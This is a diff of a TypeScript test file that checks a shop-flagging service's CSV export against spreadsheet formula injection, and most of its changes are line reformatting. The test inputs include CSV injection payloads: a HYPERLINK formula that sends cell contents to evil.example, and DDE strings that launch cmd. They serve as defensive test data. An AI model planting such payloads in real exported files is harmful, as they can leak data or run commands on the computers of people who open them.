@@ -11,7 +11,8 @@ import type { Database } from '../server/db/database.js';
 import { HEADERS, ingest, writeCsv } from './helpers.js';
 import { SECRET, buildSmallWorld, makeTokens } from './fixtures/small-world.js';
 
-const HEADER = 'shop_id,shop_name,category_id,date,window_from,orders,interventions,complaints,rate,category_mean,ratio,judged,flagged,level,consecutive_flagged_days,restrictions,policy_version';
+const HEADER =
+  'shop_id,shop_name,category_id,date,window_from,orders,interventions,complaints,rate,category_mean,ratio,judged,flagged,level,consecutive_flagged_days,restrictions,policy_version';
 
 /** A row of the flagged list with only what the CSV writes; each test overrides the text it is about. */
 function row(over: Partial<ShopMetrics>): ShopMetrics {
@@ -63,13 +64,37 @@ describe('flaggedCsv', () => {
     const csv = flaggedCsv([
       row({ shopName: '=HYPERLINK("http://evil.example/?q="&A1,"click")' }),
       row({
-        shopId: '+B', shopName: '-1+2', categoryId: '@C2', orders: 0, interventions: 0, complaints: 0, rate: null, categoryMean: 0, ratio: null,
-        judged: false, flagged: false, level: 'warning', consecutiveFlaggedDays: 0, restrictions: [], policyVersion: '=v2',
+        shopId: '+B',
+        shopName: '-1+2',
+        categoryId: '@C2',
+        orders: 0,
+        interventions: 0,
+        complaints: 0,
+        rate: null,
+        categoryMean: 0,
+        ratio: null,
+        judged: false,
+        flagged: false,
+        level: 'warning',
+        consecutiveFlaggedDays: 0,
+        restrictions: [],
+        policyVersion: '=v2',
       }),
       row({ shopId: 'D', shopName: '\tcmd|/C calc', categoryId: 'C1' }),
       row({ shopId: 'E', shopName: '\r=1+1' }),
       row({ shopId: 'F', shopName: 'A店 = 好店, "真的"', restrictions: [] }),
-      row({ shopId: 'G', shopName: 'G店', orders: 1500, interventions: 0, complaints: 12, rate: 0, categoryMean: 0.0037, ratio: 13.5, consecutiveFlaggedDays: 14, restrictions: [] }),
+      row({
+        shopId: 'G',
+        shopName: 'G店',
+        orders: 1500,
+        interventions: 0,
+        complaints: 12,
+        rate: 0,
+        categoryMean: 0.0037,
+        ratio: 13.5,
+        consecutiveFlaggedDays: 14,
+        restrictions: [],
+      }),
     ]);
     expect(csv).toBe(
       '\ufeff' +
@@ -94,7 +119,11 @@ describe('GET /api/flagged?format=csv', () => {
     const world = await buildSmallWorld();
     db = world.db;
     // The two restricted shops of the small world renamed by their sellers to formulas.
-    writeCsv(world.dir, 'shops.csv', HEADERS.shops, [['A', '=HYPERLINK("http://evil.example","点我")', 'C1'], ['B', 'B店', 'C1'], ['C', '@SUM(1+1)*cmd|\' /C calc\'!A0', 'C1']]);
+    writeCsv(world.dir, 'shops.csv', HEADERS.shops, [
+      ['A', '=HYPERLINK("http://evil.example","点我")', 'C1'],
+      ['B', 'B店', 'C1'],
+      ['C', "@SUM(1+1)*cmd|' /C calc'!A0", 'C1'],
+    ]);
     expect((await ingest(db, [`${world.dir}/shops.csv`])).exitCode).toBe(0);
     app = createApp({ db, secret: SECRET, authFailuresPerMinute: 1e6 });
     reviewer = (await makeTokens()).reviewer;
@@ -105,7 +134,10 @@ describe('GET /api/flagged?format=csv', () => {
     const res = await request(app).get('/api/flagged?format=csv&date=2026-10-08').set('Authorization', `Bearer ${reviewer}`);
     expect(res.status).toBe(200);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
-    const lines = res.text.replace(/^\ufeff/, '').trimEnd().split('\n');
+    const lines = res.text
+      .replace(/^\ufeff/, '')
+      .trimEnd()
+      .split('\n');
     expect(lines[0]).toBe(HEADER);
     const byShop = new Map(lines.slice(1).map((line) => [line.split(',')[0], line]));
     expect([...byShop.keys()].sort()).toEqual(['A', 'C']);
